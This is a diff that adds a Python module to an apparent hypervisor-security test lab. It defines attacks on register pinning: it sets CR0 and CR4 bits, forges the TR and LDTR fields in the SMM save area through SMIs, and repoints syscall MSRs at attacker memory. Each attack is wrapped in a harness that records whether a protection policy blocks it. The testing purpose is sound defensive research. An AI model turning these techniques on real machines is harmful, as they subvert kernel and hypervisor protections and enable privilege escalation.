@@ -1,0 +1,113 @@
+"""What else a policy can pin: an attack for each pin that the others leave alone."""
+
+from __future__ import annotations
+
+import struct
+from functools import partial
+
+from vtlab.client.driver import Driver
+from vtlab.client.machine import Machine
+from vtlab.client.symbols import Symbols
+from vtlab.x86.registers import Cr0, Cr4, Msr
+from vtlab_attacks.control_registers import HEKI, clear_bit
+from vtlab_attacks.evidence import Attack, Attempts, Evidence, observe
+from vtlab_attacks.smm import CR0, POKE, SAVE_AREA, SEAN_SMM, SMRAM, forge, run_smi
+from vtlab_attacks.state import DRIVER_WINDOW, msr, register
+
+SDM = "Intel SDM volume 3, CR0 (CD, NE)"
+LOCK_REGS = "LVBS LOCK_REGS"
+PATCH_GUARD = 'PatchGuard, "system call MSRs" (Skape, Skywing 2005)'
+# A segment of AMD64's save area: selector u16, attributes u16 without a gap, limit u32, base u64.
+LDTR, TR = 0x70, 0x90
+LIMIT, BASE = 4, 8
+# Present, an LDT.
+LDT = 0x82 << 16 | 0x28
+
+
+def set_bit(number: int, bit: Cr0 | Cr4, symbol: str) -> partial[Evidence]:
+    """Sets one bit of CR0 or CR4 by the code at a symbol."""
+    return partial(_set_bit, number, bit, symbol)
+
+
+def _set_bit(
+    number: int, bit: Cr0 | Cr4, symbol: str, machine: Machine, driver: Driver, symbols: Symbols
+) -> Evidence:
+    def held() -> int:
+        return int(bool(register(machine, f"cr{number}") & bit))
+
+    def steps(attempts: Attempts) -> None:
+        attempts.step(driver.call, symbols[symbol], register(machine, f"cr{number}") | bit)
+
+    return observe(f"CR{number}.{bit.name}", held, steps, symbols, lambda _, after: bool(after))
+
+
+def write_msr(index: Msr, value: int) -> partial[Evidence]:
+    """By the kernel's own WRMSR."""
+    return partial(_write_msr, index, value)
+
+
+def _write_msr(index: Msr, value: int, machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
+    def steps(attempts: Attempts) -> None:
+        attempts.step(driver.call, symbols["wrmsr"], index, value)
+
+    return observe(
+        index.name or hex(index), lambda: msr(machine, index), steps, symbols, lambda _, after: after == value, hex
+    )
+
+
+def forge_tr(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
+    """RSM loads the base of a TSS in attacker memory, a copy: stacks of interrupts are the attacker's from then on."""
+    copy = symbols["driver_mailbox"]
+    driver.copy(copy, machine.registers().tr.base, machine.registers().tr.limit + 1)
+    low = struct.unpack("<I", struct.pack("<Q", copy)[:4])[0]
+
+    def steps(attempts: Attempts) -> None:
+        run_smi(machine, attempts, POKE, low, SMRAM + SAVE_AREA + TR + BASE)
+
+    return observe("TR base", lambda: machine.registers().tr.base, steps, symbols, lambda _, after: after == copy, hex)
+
+
+def forge_ldtr(machine: Machine, _driver: Driver, symbols: Symbols) -> Evidence:
+    """Three SMIs give LDTR a limit, a base in user memory, and a descriptor that is present: segments of its own."""
+    base = symbols["user_payload"]
+
+    def steps(attempts: Attempts) -> None:
+        for field, value in ((LIMIT, 0xFFF), (BASE, base), (0, LDT)):
+            if not attempts.denials:
+                run_smi(machine, attempts, POKE, value, SMRAM + SAVE_AREA + LDTR + field)
+
+    def held() -> tuple[int, int]:
+        ldtr = machine.registers().ldtr
+        return ldtr.base, ldtr.attributes & 0x80
+
+    return observe(
+        "LDTR base, and whether it is present",
+        held,
+        steps,
+        symbols,
+        lambda _, after: after == (base, 0x80),
+        lambda seen: f"{seen[0]:#x}, {'yes' if seen[1] else 'no'}",
+    )
+
+
+TRANSITION_ATTACKS = [
+    Attack("cr0-ne", "Clears CR0.NE: faults of the FPU arrive as an interrupt of the PIC", SDM, clear_bit("cr0", Cr0.NE)),
+    Attack("cr0-cache-disabled", "Sets CR0.CD", SDM, set_bit(0, Cr0.CD, "gadget_mov_cr0")),
+    Attack("rsm-paging-off", "RSM loads CR0 without PG", SEAN_SMM, forge("CR0.PG", CR0, "cr0", Cr0.PG)),
+    Attack("rsm-forged-tr", "RSM moves the TSS to attacker memory", SEAN_SMM, forge_tr),
+    Attack("rsm-forged-ldtr", "RSM loads an LDT in user memory", SEAN_SMM, forge_ldtr),
+    Attack(
+        "cr-writer-unpinned",
+        "Sets CR4.TSD, which nobody pins, by the kernel's own function that writes CR4",
+        HEKI,
+        set_bit(4, Cr4.TSD, "write_cr4"),
+    ),
+    Attack("msr-star", "Has SYSCALL load other selectors", PATCH_GUARD, write_msr(Msr.STAR, 0x0010_0018 << 32)),
+    Attack("msr-cstar", "Points CSTAR at attacker memory", PATCH_GUARD, write_msr(Msr.CSTAR, DRIVER_WINDOW)),
+    Attack("msr-sfmask", "Has SYSCALL leave IF, DF and AC as they are", LOCK_REGS, write_msr(Msr.SFMASK, 0)),
+    Attack("msr-sysenter-cs", "Has SYSENTER load another selector", LOCK_REGS, write_msr(Msr.SYSENTER_CS, 0x18)),
+    Attack(
+        "msr-sysenter-esp", "Has SYSENTER take a stack of the attacker's", LOCK_REGS,
+        write_msr(Msr.SYSENTER_ESP, DRIVER_WINDOW + 0x1000),
+    ),
+]
